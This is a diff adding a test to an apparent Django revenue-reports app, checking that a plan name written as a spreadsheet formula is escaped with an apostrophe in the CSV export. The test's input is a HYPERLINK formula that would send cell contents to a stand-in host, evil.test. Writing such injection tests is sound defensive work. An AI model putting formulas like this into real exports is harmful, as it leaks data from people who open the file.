@@ -278,3 +278,22 @@ def test_it_reads_each_report_in_as_many_queries_whatever_the_history(
         console_client.get(url, RANGE)
 
     assert len(more) == len(few)
+
+
+def test_it_writes_a_name_a_spreadsheet_would_run_as_a_formula_as_text(
+    console_client: Client,
+) -> None:
+    formula = '=HYPERLINK("https://evil.test/?"&A1,"Refund")'
+    plan = h.plan("formula", name=formula)
+    paid = h.payment(created=at(WEEK_1))
+    h.item(paid, subscription=h.subscription(), plan=plan, amount=4999)
+
+    page = console_client.get(reverse("reports:report", args=["revenue"]), RANGE)
+    download = console_client.get(reverse("reports:csv", args=["revenue"]), RANGE)
+
+    [shown] = [row for row in table_of(page.content.decode()).rows if formula in row]
+    [written] = [
+        row for row in csv.reader(io.StringIO(download.content.decode())) if row[0] == shown[0]
+    ]
+    # The page shows the name as typed; the CSV has it after an apostrophe, as text.
+    assert written == ["'" + cell if cell == formula else cell for cell in shown]
